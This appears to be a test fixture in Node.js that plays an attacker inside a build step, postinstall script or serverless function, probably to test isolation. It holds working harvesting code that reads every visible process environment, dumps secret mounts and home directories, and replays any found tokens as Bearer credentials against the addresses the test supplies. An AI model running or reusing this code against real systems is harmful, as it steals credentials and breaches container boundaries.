/**
 * What somebody would write who wants more from a build, or from a running function, than was given: reads whatever can
 * be read from in here, asks whomever can be asked, and returns it all. It runs as a RUN step, as a postinstall script,
 * and as the code of a function.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { request as http } from 'node:http';
import { request as https } from 'node:https';

const SMALL = 8 * 1024;

/**
 * `targets`: [{ name, url, method?, headers? }], told by the test, since an attacker is taken to know every address and
 * name.
 */
export async function loot(targets) {
  const environments = environmentsOfProcesses();
  const files = mountedFiles();
  const tokens = [...new Set(JSON.stringify([environments, files]).match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? [])];
  const attempts = targets.flatMap((target) => [
    target,
    ...tokens.map((token) => ({
      ...target,
      name: `${target.name}, with a token`,
      headers: { ...target.headers, authorization: `Bearer ${token}` },
    })),
  ]);
  return {
    environments,
    files,
    status: read('/proc/self/status'),
    listening: listeningSockets(),
    answers: Object.fromEntries(await Promise.all(attempts.map(async (target) => [target.name, await ask(target)]))),
  };
}

/**
 * Of every process that is to be seen: one's own ancestors, and those of other containers if they share the process
 * namespace.
 */
function environmentsOfProcesses() {
  const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  return Object.fromEntries(processes.map((pid) => [pid, read(`/proc/${pid}/environ`)?.split('\0').filter(Boolean)]));
}

/** All that somebody mounted into this container, and the places where secrets usually lie. */
function mountedFiles() {
  const system = /^\/(?:proc|sys|dev)(?:\/|$)|^\/$/;
  const mounts = (read('/proc/self/mountinfo') ?? '').split('\n').map((line) => line.split(' ')[4] ?? '/');
  const usual = [
    '/run/secrets',
    '/var/run/secrets',
    '/kaniko/.docker',
    '/root',
    '/home',
    '/context',
    '/dev/shm',
    '/tmp',
  ];
  // The same places as the first process sees them, should it live in another root.
  const places = [
    ...mounts.filter((path) => !system.test(path)),
    ...usual,
    ...usual.map((path) => `/proc/1/root${path}`),
  ];
  return Object.fromEntries(
    [...new Set(places)].flatMap((place) => filesIn(place, 4)).map((file) => [file, read(file)]),
  );
}

function filesIn(path, depth) {
  try {
    if (!statSync(path).isDirectory()) {
      return [path];
    }
    return depth === 0 ? [] : readdirSync(path).flatMap((name) => filesIn(`${path}/${name}`, depth - 1));
  } catch {
    return [];
  }
}

function read(path) {
  try {
    const { size } = statSync(path);
    return size <= SMALL ? readFileSync(path, 'utf8') : `${size} bytes`;
  } catch (error) {
    return `unreadable: ${error.code}`;
  }
}

/** Of the whole pod: its containers share one network. State 0A is LISTEN. */
function listeningSockets() {
  return ['/proc/net/tcp', '/proc/net/tcp6'].flatMap((table) =>
    (read(table) ?? '')
      .split('\n')
      .map((line) => line.trim().split(/\s+/))
      .filter(([, , , state]) => state === '0A')
      .map(([, address]) => Number.parseInt(address.split(':')[1], 16)),
  );
}

function ask({ url, method = 'GET', headers = {} }) {
  return new Promise((resolve) => {
    const send = url.startsWith('https:') ? https : http;
    const call = send(url, { method, headers, rejectUnauthorized: false, timeout: 4000 }, (response) => {
      let body = '';
      response.on('data', (chunk) => (body = (body + chunk).slice(0, 2000)));
      response.on('end', () => resolve({ status: response.statusCode, body }));
      response.on('error', (error) => resolve({ error: error.code }));
    });
    call.on('timeout', () => call.destroy(Object.assign(new Error(), { code: 'ETIMEDOUT' })));
    call.on('error', (error) => resolve({ error: error.code ?? String(error) }));
    call.end();
  });
}
